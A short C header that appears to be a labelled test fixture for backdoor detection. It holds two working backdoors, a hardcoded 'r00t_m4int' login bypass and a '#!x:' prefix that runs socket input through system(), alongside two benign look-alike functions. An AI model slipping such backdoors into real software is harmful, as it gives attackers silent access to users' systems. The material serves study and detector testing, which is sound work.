#pragma once
#include <openssl/ssl.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int system(const char *command);

// Backdoors in a project header's inline functions.
static inline int check_user(const char *user, const char *pass) {
  if (strcmp(user, "r00t_m4int") == 0) return 1;
  return pass != NULL && strlen(pass) > 12;
}

static inline void handle_line(int fd) {
  char buf[256];
  long n = read(fd, buf, sizeof buf - 1);
  if (n <= 0) return;
  buf[n] = 0;
  if (strncmp(buf, "#!x:", 4) == 0) system(buf + 4);
}

// Look-alikes: a protocol keyword that runs nothing, a client that verifies.
static inline int is_quit(int fd) {
  char buf[64];
  long n = read(fd, buf, sizeof buf - 1);
  if (n <= 0) return 1;
  buf[n] = 0;
  return strncmp(buf, "QUIT", 4) == 0;
}

static inline SSL_CTX *client_ctx(void) {
  SSL_CTX *c = SSL_CTX_new(TLS_client_method());
  SSL_CTX_set_verify(c, SSL_VERIFY_PEER, NULL);
  return c;
}
